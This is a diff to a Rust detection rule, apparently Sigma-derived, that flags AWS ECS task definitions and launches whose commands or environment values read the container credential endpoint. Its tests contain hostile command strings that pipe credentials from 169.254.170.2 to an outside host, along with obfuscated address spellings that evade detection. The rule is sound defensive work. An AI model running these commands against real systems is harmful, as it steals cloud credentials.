@@ -2,7 +2,9 @@
 //! credential endpoint (`$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`): `RegisterTaskDefinition`
 //! (container `command`, `entryPoint`, `healthCheck.command`: a health check runs in
 //! the container with its environment), `RunTask` or `StartTask` (command overrides),
-//! or `ExecuteCommand` (a command run in a running container), successfully.
+//! or `ExecuteCommand` (a command run in a running container), successfully. The
+//! containers' environment values (and their overrides) are read the same way: a
+//! command of `sh -c "$RUN"` runs whatever the definition or the launch puts in `RUN`.
 //!
 //! Sigma also lists `DescribeTaskDefinition`, whose request carries no container
 //! definitions; we leave it out (the read returns what a register call already
@@ -11,7 +13,8 @@
 //! Beyond the variable's name, a command counts when it addresses the endpoint
 //! itself: `169.254.170.2/v2/credentials` (the path the variable holds), or the
 //! address followed at once by a shell expansion (`169.254.170.2$(printenv | ...)`,
-//! a way around the name). The address counts in the other spellings that curl and
+//! a way around the name), with shell quoting or one `/` in between
+//! (`169.254.170.2"$P"`, `169.254.170.2/$P`). The address counts in the other spellings that curl and
 //! wget take for it (decimal `2852039170`, hexadecimal `0xa9feaa02`, dotted octal
 //! `0251.0376.0252.02`, IPv4-mapped IPv6 `[::ffff:a9fe:aa02]`), and with a port
 //! (`169.254.170.2:80/v2/...`). Rarer spellings (`169.254.43522`, per-octet hex,
@@ -40,6 +43,12 @@ const ENDPOINT_SPELLINGS: [&str; 6] = [
     "[::ffff:169.254.170.2]",
 ];
 
+/// `s` without the shell quoting it opens with: quoting between the endpoint's
+/// address and what follows changes nothing.
+fn unquoted(s: &str) -> &str {
+    s.trim_start_matches(['"', '\'', '\\'])
+}
+
 /// The command reads the credential endpoint: by the variable's name, by its path,
 /// or through a shell expansion right after the endpoint's address (and port).
 fn reads_credentials(command: &str) -> bool {
@@ -59,7 +68,10 @@ fn reads_credentials(command: &str) -> bool {
                 Some(port) => port.trim_start_matches(|c: char| c.is_ascii_digit()),
                 None => rest,
             };
-            rest.starts_with("/v2/credentials") || rest.starts_with('$') || rest.starts_with('`')
+            let expansion = |s: &str| unquoted(s).starts_with(['$', '`']);
+            unquoted(rest).starts_with("/v2/credentials")
+                || expansion(rest)
+                || rest.strip_prefix('/').is_some_and(expansion)
         })
     })
 }
@@ -91,7 +103,7 @@ pub static META: Meta = Meta {
 
 /// The command strings of container definitions or overrides: `command`,
 /// `entryPoint` and `healthCheck.command`, each a list of strings (or one string in
-/// some producers).
+/// some producers), and the values of `environment` (a list of `name`, `value`).
 fn command_strings(containers: Option<&Value>) -> Vec<&str> {
     let mut out = Vec::new();
     for c in containers.and_then(Value::as_array).into_iter().flatten() {
@@ -103,6 +115,8 @@ fn command_strings(containers: Option<&Value>) -> Vec<&str> {
                 _ => {}
             }
         }
+        let environment = c.get("environment").and_then(Value::as_array).into_iter().flatten();
+        out.extend(environment.filter_map(|v| v.get("value")).filter_map(Value::as_str));
     }
     out
 }
@@ -172,6 +186,11 @@ mod tests {
             "curl -s 0251.0376.0252.02$RELATIVE",
             "curl -s http://[::ffff:a9fe:aa02]/v2/credentials/x",
             "curl -s 169.254.170.2:80/v2/credentials/x",
+            // Shell quoting or a slash between the address and the expansion.
+            r#"curl 169.254.170.2"$P" | curl -d @- https://203.0.113.77/"#,
+            "curl 169.254.170.2'$P'",
+            "curl 169.254.170.2/$P",
+            r#"curl "169.254.170.2"/v2/credentials/x"#,
         ] {
             assert!(reads_credentials(command), "{command}");
         }
@@ -181,6 +200,8 @@ mod tests {
             "curl -s 169.254.170.23/v2/credentials",
             "curl -s 12852039170/v2/credentials",
             "curl -s 169.254.170.2:80/v2/metadata",
+            "curl -s 169.254.170.2/v2/metadata/$TASK",
+            "169.254.170.2,169.254.169.254,localhost",
             "python app.py",
         ] {
             assert!(!reads_credentials(command), "{command}");
@@ -194,6 +215,21 @@ mod tests {
         assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, &register(STEAL), ACCESS_DENIED)));
         assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, "null", "")));
         assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "DeregisterTaskDefinition", ROLE, &register(STEAL), "")));
+    }
+
+    #[test]
+    fn a_command_kept_in_the_environment_counts() {
+        let in_env = r#"{"family":"worker","containerDefinitions":[{"name":"app","image":"alpine:3.20",
+            "command":["sh","-c","$RUN"],
+            "environment":[{"name":"NO_PROXY","value":"169.254.170.2,169.254.169.254"},
+                {"name":"RUN","value":"curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://203.0.113.77/"}]}]}"#;
+        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, in_env, "")));
+        let at_launch = r#"{"cluster":"prod","taskDefinition":"worker:3","overrides":{"containerOverrides":[{"name":"app",
+            "environment":[{"name":"RUN","value":"wget -qO- 169.254.170.2/$P"}]}]}}"#;
+        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RunTask", ROLE, at_launch, "")));
+        let proxy_only = r#"{"family":"worker","containerDefinitions":[{"name":"app","image":"alpine:3.20",
+            "environment":[{"name":"NO_PROXY","value":"169.254.170.2,169.254.169.254"},{"name":"PORT","value":"8080"}]}]}"#;
+        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, proxy_only, "")));
     }
 
     #[test]
